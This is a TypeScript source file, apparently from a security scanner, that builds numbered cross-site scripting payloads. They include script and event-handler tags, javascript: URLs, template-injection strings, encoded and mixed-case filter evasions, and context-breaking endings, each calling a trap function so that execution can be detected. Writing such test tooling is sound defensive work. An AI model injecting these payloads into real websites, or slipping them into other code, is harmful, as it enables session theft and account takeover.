import type { Random } from '../report.ts'

/** A payload's text. `{run}` calls the trap with the payload's number; `{mark}` shows whether the text is on a page. */
type Template = string

const CALLS = [
  '{run}',
  '`${{run}}`',
  'top.{run}',
  'eval(atob`{base64}`)',
  "setTimeout('{run}')",
  'Function(`{run}`)()',
]

const ELEMENTS: readonly Template[] = [
  '<script>{call}</script>',
  '<img src=x onerror={call}>',
  '<svg onload={call}>',
  '<svg><script>{call}</script></svg>',
  '<body onload={call}>',
  '<input autofocus onfocus={call}>',
  '<details open ontoggle={call}>',
  '<iframe srcdoc="<script>parent.{run}</script>">',
  '<iframe src="javascript:parent.{run}">',
  '<video><source onerror={call}></video>',
  '<math><mi xlink:href="javascript:{run}">x</mi></math>',
  '<a href="javascript:{run}">x</a>',
  '<style>@import "{url}";</style>',
  '<link rel=stylesheet href="{url}">',
  '<meta http-equiv=refresh content="0;url={url}">',
  '<base href="{url}">',
  '<object data="{url}"></object>',
  '<embed src="{url}">',
  '<form action="{url}"><button autofocus>x</button></form>',
  '<marquee onstart={call}>',
  '<template><img src=x onerror={call}></template>',
  '<noscript><img title="</noscript><img src=x onerror={run}>">',
  '<img src="{url}">',
  '<ScRiPt/x>{call}</sCrIpT>',
  '<img/src/onerror={run}//',
  '<x contenteditable autofocus onfocus={call}>',
]

/** Characters that could end the text around a payload. */
const ENDS: readonly string[] = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea>',
  '-->',
  ']]>',
  '\\"]}',
  '</style>',
]

const WITHOUT_ELEMENTS: readonly Template[] = [
  'javascript:{run}',
  'JaVaScRiPt:{run}//',
  ' javascript&colon;{run}',
  'data:text/html,<script>{run}</script>',
  '" onfocus={call} autofocus x="',
  "' onmouseover={call} x='",
  '" style="background:url({url})" x="',
  '{{{run}}}',
  '{{constructor.constructor("{run}")()}}',
  '${{run}}',
  '#{{run}}',
  '[x](javascript:{run})',
  '![x]({url})',
  '<!--#exec cmd="{run}"-->',
  '\u2028{run}//',
  '";{run}//',
  "';{run}//",
  '\\u003cscript>{run}\\u003c/script>',
  '&lt;script&gt;{run}&lt;/script&gt;',
  '&#60;img src=x onerror={run}&#62;',
  '%3Cscript%3E{run}%3C/script%3E',
  '@<img src=x onerror={run}>',
  'https://a.b/"onfocus="{run}"autofocus="',
  'http://a.b/<img src=x onerror={run}>',
]

/** The name of the function that payloads try to call. */
export const TRAP = 'ran'

/** A payload and its number; `fill` inserts a mark into its text. */
export type Payload = { number: number; fill: (mark: string) => string }

/** Breaks out of most contexts, so that even a single payload is meaningful. */
const FIRST: Template = '</title></script>"><img src=x onerror={run}>'

/** Returns numbered payloads, of which the first 200 are all different: elements after each ending, and text only. */
export function payloads(count: number, url: string, random: Random): Payload[] {
  const all = [
    ...ELEMENTS.flatMap((element) => ENDS.map((end) => `${end}${element}`)),
    ...WITHOUT_ELEMENTS,
    ...WITHOUT_ELEMENTS.map((text) => `x${text}`),
  ]
  // Shuffled by the seed, so that a small number includes all kinds.
  for (let n = all.length - 1; n > 0; n--) {
    const other = random(n + 1)
    ;[all[n], all[other]] = [all[other] ?? '', all[n] ?? '']
  }
  return Array.from({ length: count }, (_, number) => {
    const run = `${TRAP}(${number})`
    const template = number === 0 ? FIRST : (all[number % all.length] ?? '')
    const call = CALLS[random(CALLS.length)] ?? ''
    const text = template
      .replaceAll('{call}', () => call)
      .replaceAll('{base64}', () => btoa(run))
      .replaceAll('{run}', () => run)
      .replaceAll('{url}', () => `${url}/${number}`)
    return { number, fill: (mark) => `${mark} ${text}` }
  })
}
